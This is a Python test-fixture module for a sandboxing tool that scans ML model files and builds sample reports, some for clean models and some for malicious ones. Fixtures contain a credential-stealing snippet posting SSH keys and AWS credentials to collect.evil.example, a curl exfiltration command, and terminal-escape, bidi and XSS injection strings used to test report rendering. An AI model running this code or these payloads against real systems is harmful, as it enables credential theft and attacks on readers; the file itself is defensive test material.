"""Reports built by hand: what the formats and the command line are shown in their tests."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import msgspec
from safe_load.core.report import (
    SEVERITIES,
    Decoy,
    Digests,
    Egress,
    Event,
    Export,
    ExportedFile,
    FileInfo,
    Finding,
    Origin,
    Process,
    Recording,
    Report,
    Resources,
    SandboxInfo,
    Source,
    Stage,
    SyscallCount,
    Tensor,
    Tensors,
    Tool,
    WallState,
)

if TYPE_CHECKING:
    from safe_load.core.report import Decision, Severity

ESCAPE = "\x1b]0;owned\x07\x1b[2J\x1b[31m"
BIDI = "\u202egpj.exe\u2066"
MARKUP = "[bold red]x[/] <script>alert(1)</script> <img src=x onerror=alert(1)> ![x](http://evil.example/x.png)"
FENCE = "`` ` ``` | \\| @everyone [x]: http://evil.example ]]> --> &amp; \"'"
LINES = "first\nsecond\r\nthird\u2028fourth\x85fifth\x9b31m"
HOSTILE = (ESCAPE, BIDI, MARKUP, FENCE, LINES, "\ufeff\u200b\ufffe\U000e0041\u3164", "a" * 5000)
TOOL = Tool("safe-load", "0.1.0")
_WALLS = "user-namespace mount-namespace landlock seccomp recorder".split()
STANDS = [WallState(name, "standing") for name in _WALLS]
ROOM = SandboxInfo("native", None, "A", "strict", STANDS)
_TIMES = {"inventory": 0.01, "extract": 0.09, "detonate": 1.9, "compare": 0.02}
STAGES = [Stage(*each) for each in _TIMES.items()]


def clean(path: str = "models/bert-tiny") -> Report:
    """A model with nothing to find in it."""
    return Report(
        tool=TOOL,
        source=Source(path, "4e1c1d2f9f"),
        started="2026-01-02T03:04:05Z",
        duration_s=2.13,
        verdict="clean",
        outcome="ok",
        sandbox=ROOM,
        files=[
            FileInfo("config.json", 612, "ab" * 32, "json"),
            FileInfo("pytorch_model.bin", 17_756_393, "cd" * 32, "torch-zip"),
        ],
        stages=STAGES,
        recording=Recording(syscalls={"openat": SyscallCount(allowed=212)}),
        tensors=Tensors(
            count=39,
            parameters=4_385_920,
            bytes=17_543_680,
            dtypes={"F32": 39},
            tied=[["cls.decoder.weight", "bert.embeddings.weight"]],
            first="bert.embeddings.weight",
            last="cls.bias",
        ),
        resources=Resources(480_000_000, 2.4, 3),
    )


def exported(path: str = "cleared") -> Report:
    """The clean model after `load`."""
    files = [
        ExportedFile("config.json", 540, Digests("ef" * 32)),
        ExportedFile("model.safetensors", 17_547_912, Digests("01" * 32, "45" * 32)),
        ExportedFile("report.json", 9_000, Digests("23" * 32)),
    ]
    report = clean()
    export = Export(path, files, "transformers")
    return _with(report, stages=[*STAGES, Stage("export", 0.05)], export=export)


def malicious(path: str = "models/stealer") -> Report:
    """A model that runs a program, looks for secrets and sends them home."""
    events = [
        Event(
            0.61,
            "detonate",
            2,
            "python",
            "openat",
            {"path": "/home/ubuntu/.aws/credentials"},
            "allowed",
        ),
        Event(
            0.62,
            "detonate",
            2,
            "python",
            "openat",
            {"path": "/etc/shadow"},
            "denied",
            "EACCES",
            count=3,
        ),
        Event(
            0.70,
            "detonate",
            2,
            "python",
            "execve",
            {"path": "/bin/sh", "argv": ["sh", "-c", "id"]},
            "denied",
            "EPERM",
        ),
        Event(
            0.81,
            "detonate",
            2,
            "python",
            "connect",
            {"address": "192.0.2.7", "port": 443},
            "redirected",
        ),
        Event(0.90, "detonate", 2, "python", "ptrace", {"request": 16}, "denied", "EPERM"),
    ]
    return Report(
        tool=TOOL,
        source=Source(path),
        started="2026-01-02T03:04:05Z",
        duration_s=3.42,
        verdict="malicious",
        outcome="rejected",
        outcome_detail="4 findings at or above medium, nothing was exported",
        sandbox=ROOM,
        files=[FileInfo("pytorch_model.bin", 17_756_393, "cd" * 32, "torch-zip")],
        stages=STAGES,
        recording=Recording(
            syscalls={"openat": SyscallCount(212, 3), "execve": SyscallCount(0, 1)}, events=events
        ),
        egress=[
            Egress(0.79, "dns", "192.0.2.7", 53, "evil.example", "", 31),
            Egress(
                0.81,
                "tcp",
                "192.0.2.7",
                443,
                "evil.example",
                "GET /exfil?k=AKIA HTTP/1.1\r\nHost: evil.example\r\n",
                48,
            ),
        ],
        processes=[
            Process(0.70, 2, 1, ["sh", "-c", "curl http://evil.example/$(cat ~/.aws/credentials)"])
        ],
        findings=[
            Finding("SL401", "medium", "A forbidden system call", "ptrace", "", [4]),
            Finding(
                "SL501",
                "low",
                "A pickle names a callable outside the allowlist",
                "names os.system",
                "pytorch_model.bin: data.pkl, byte 17",
            ),
            Finding(
                "SL101",
                "critical",
                "A program was executed",
                "sh -c 'curl …' was refused",
                "pytorch_model.bin",
                [2],
            ),
            Finding(
                "SL201",
                "high",
                "Egress was attempted",
                "48 bytes to evil.example (192.0.2.7:443)",
                "pytorch_model.bin",
                [3],
            ),
            Finding(
                "SL301",
                "critical",
                "A decoy secret was read",
                "/home/ubuntu/.aws/credentials",
                "",
                [0],
            ),
        ],
    )


_CODE = """
import os, socket, subprocess, urllib.request
loot = b""
for p in ("~/.ssh/id_rsa", "~/.aws/credentials"):
    loot += open(os.path.expanduser(p), "rb").read()
urllib.request.urlopen("http://collect.evil.example/up?h=" + os.uname().nodename, data=loot)
subprocess.run(["/bin/sh", "-c", "touch canary; echo pwned"])
"""
_BY = " (The call came from pytorch_model.bin: builtins.exec at byte 13225 of x/data.pkl.)"
_SECRETS = {
    "/home/ubuntu/.ssh/id_rsa": "an SSH key",
    "/home/ubuntu/.aws/credentials": "AWS credentials",
    "/home/ubuntu/.cache/huggingface/token": "a Hugging Face token",
}


def trapped(path: str = "models/trapped") -> Report:
    """What the trap of this project's demo amounts to, and a little more: three secrets, two ways out, a
    program, a start-up file."""
    origin = Origin("pytorch_model.bin", "x/data.pkl", 13225, 13289, "builtins.exec")
    events, found, titles = [], [], list(_SECRETS.values())

    def seen(ident: str, severity: Severity, title: str, detail: str, at: str, *index: int) -> None:
        found.append(Finding(ident, severity, title, detail + _BY, at, list(index), origin))

    def call(t: float, name: str, args: dict[str, Any], how: Decision = "denied") -> int:
        errno = "EACCES" if how == "denied" else None
        events.append(Event(t, "detonate", 2, "worker", name, args, how, errno, ppid=1))
        return len(events) - 1

    for step, (place, title) in enumerate(_SECRETS.items()):
        index = call(15.75 + step / 1000, "openat", {"path": place, "flags": "O_RDONLY"}, "allowed")
        said = f"The model read {title} at {place}, a decoy that was planted for this load"
        seen("SL301", "high", "The model looked for credentials", said, place, index)
    name = "collect.evil.example"
    resolver = {"to": {"family": "AF_INET", "address": "192.0.2.53", "port": 53}, "fd": 5}
    index = call(15.763, "connect", resolver, "redirected")
    seen(
        "SL202",
        "medium",
        "The model tried to look up a host name",
        f"looked up {name}",
        name,
        index,
    )
    payload = (
        "POST /up?h=localhost HTTP/1.1\r\nHost: collect.evil.example\r\n\r\n-----BEGIN OPENSSH"
    )
    for t, address, port, said in (
        (15.774, "198.51.100.1", 80, payload),
        (15.78, *_RAW, "-----BEGIN"),
    ):
        to = {"to": {"family": "AF_INET", "address": address, "port": port}, "fd": 5}
        index = call(t, "connect", to, "redirected")
        stolen = f"The model stole {' and '.join(titles)}: the decoy's mark is in the data: {said}"
        seen(
            "SL301",
            "critical",
            "The model looked for credentials",
            stolen,
            f"{address}:{port}",
            index,
        )
        sent = f"The model sent 576 bytes: {said}"
        seen(
            "SL201",
            "high",
            "The model tried to reach the network",
            sent,
            f"{address}:{port}",
            index,
        )
    argv = ["/bin/sh", "-c", "touch canary; echo pwned"]
    index = call(15.784, "execve", {"path": "/bin/sh", "argv": argv})
    ran = "The model tried to run: " + " ".join(argv)
    seen("SL101", "high", "The model tried to run a program", ran, "/bin/sh", index)
    bashrc = {"path": "/home/ubuntu/.bashrc", "flags": "O_WRONLY|O_CREAT|O_APPEND"}
    index = call(15.785, "openat", bashrc, "allowed")
    changed = "The model tried to change /home/ubuntu/.bashrc (openat)"
    title = "The model tried to write outside the scratch folder"
    seen("SL302", "medium", title, changed, bashrc["path"], index)
    detail = f"pytorch_model.bin calls builtins.exec with ({_CODE!r},): it can run code"
    place = "pytorch_model.bin: x/data.pkl at byte 13225"
    title = "A pickle names a callable that is not an ordinary one"
    called = msgspec.structs.replace(origin, arguments=f"({_CODE!r},)")
    found.append(Finding("SL501", "high", title, detail, place, [], called))
    found.sort(key=lambda each: -SEVERITIES.index(each.severity))
    egress = [Egress(15.764 + n, "dns", "192.0.2.53", 53, name, name, 38) for n in (0.0, 0.0002)]
    egress.append(Egress(15.774, "tcp", "198.51.100.1", 80, name, payload, 576, titles))
    egress.append(Egress(15.78, "tcp", *_RAW, None, "-----BEGIN", 367, titles))
    return _with(
        malicious(path),
        outcome_detail=f"{found[0].title}: {found[0].detail}",
        duration_s=16.2,
        files=[
            FileInfo("config.json", 612, "ab" * 32, "json", "data", "JSON"),
            FileInfo(
                "pytorch_model.bin", 91_600_000, "bc" * 32, "torch-zip", "opened", "read as data"
            ),
        ],
        recording=Recording(syscalls={"openat": SyscallCount(212, 3)}, events=events),
        egress=egress,
        processes=[Process(15.784, 2, 1, argv)],
        decoys=[Decoy(place, title) for place, title in _SECRETS.items()],
        findings=found,
        tensors=Tensors(
            2,
            9,
            36,
            {"F32": 2},
            [],
            "a",
            "b",
            [Tensor("a", "F32", [2, 3], 24), Tensor("b", "F32", [3], 12)],
        ),
        notes=["config.json: _name_or_path was dropped: it names a repository or a path"],
    )


_RAW = ("203.0.113.7", 4444)


def hostile() -> Report:
    """A malicious report with an attack on its reader in every string that a model can choose."""
    text = " ".join(HOSTILE[:-1])
    base = malicious(path=f"models/{text}")
    return _with(
        base,
        source=Source(f"models/{text}", text),
        outcome_detail=text,
        sandbox=SandboxInfo("native", text, "B", text, [WallState(text, "weaker", text)]),
        files=[FileInfo(text, 1, None, text)],
        recording=Recording(
            complete=False,
            dropped=7,
            syscalls={text: SyscallCount(1, 2)},
            events=[
                Event(
                    0.1,
                    text,
                    2,
                    text,
                    text,
                    {"path": text, text: [text, {"x": text}]},
                    "denied",
                    text,
                )
            ],
        ),
        egress=[
            Egress(0.1, text, text, None, text, text, 3, [text, text]),
            Egress(0.1, "dns", text, 53, text, text, 3),
        ],
        processes=[Process(0.2, 2, 1, [text, *HOSTILE])],
        findings=[
            Finding(text, "high", text, text, text, [0, 99], Origin(text, text, 3, 4, text, text)),
            *(Finding("SL501", "medium", t, t, t) for t in HOSTILE),
        ],
        decoys=[Decoy(text, text)],
        tensors=Tensors(
            2, 1, 4, {text: 1}, [[text, text]], text, text, [Tensor(text, text, [1, 2], 8)]
        ),
        export=Export(
            text,
            [
                ExportedFile(text, 1, Digests(text)),
                ExportedFile(f"{text}.safetensors", 1, Digests(text, text)),
            ],
        ),
        notes=[text, *HOSTILE],
    )


def interrupted() -> Report:
    """A load that Ctrl-C ended."""
    return _with(not_loadable(), outcome="interrupted", outcome_detail="interrupted")


def hostile_rejected() -> Report:
    """The same, with nothing exported."""
    return _with(hostile(), export=None)


def not_loadable(path: str = "models/broken.bin") -> Report:
    """A file that is no model."""
    return Report(
        tool=TOOL,
        source=Source(path),
        started="2026-01-02T03:04:05Z",
        duration_s=0.2,
        verdict="unknown",
        outcome="not_loadable",
        outcome_detail="broken.bin ends after 12 of 4096 bytes",
        sandbox=ROOM,
    )


def _with(report: Report, **changes: object) -> Report:
    fields = {name: getattr(report, name) for name in report.__struct_fields__}
    return Report(**{**fields, **changes})
